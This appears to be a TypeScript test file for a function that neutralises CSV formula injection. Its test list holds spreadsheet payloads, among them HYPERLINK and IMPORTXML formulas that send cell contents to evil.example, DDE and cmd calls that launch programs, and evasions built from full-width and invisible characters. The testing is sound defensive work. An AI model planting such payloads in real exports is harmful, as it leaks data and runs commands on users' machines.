import fc from 'fast-check';
import { inertText } from './formula.policy';

/** What has been used against exports: operators, full-width forms, leading blanks, quotes, invisible characters. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '+cmd|x!A1',
  '-1+1',
  '-2+3+cmd|x!A1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  ' =1+1',
  '  =1+1',
  '"=1+1',
  "'=1+1",
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '=DDE("cmd";"/C calc";"x")',
  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
] as const;

describe('text for a CSV cell', () => {
  it.each(FORMULAS)('makes %j inert', (text) => {
    expect(inertText(text)).toBe(`'${text}`);
  });

  it.each(['湘江精密', '5000平', '1.2万', 'a=b', '租-售', '(=)', '', '3-5亩'])('leaves %j alone', (text) => {
    expect(inertText(text)).toBe(text);
  });

  it('never begins with anything that starts a formula', () => {
    fc.assert(
      fc.property(
        fc.string({
          unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '＝', '＋', '－', '＠', 'a', '1'),
        }),
        (text) => {
          expect(inertText(text)).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
        },
      ),
    );
  });
});
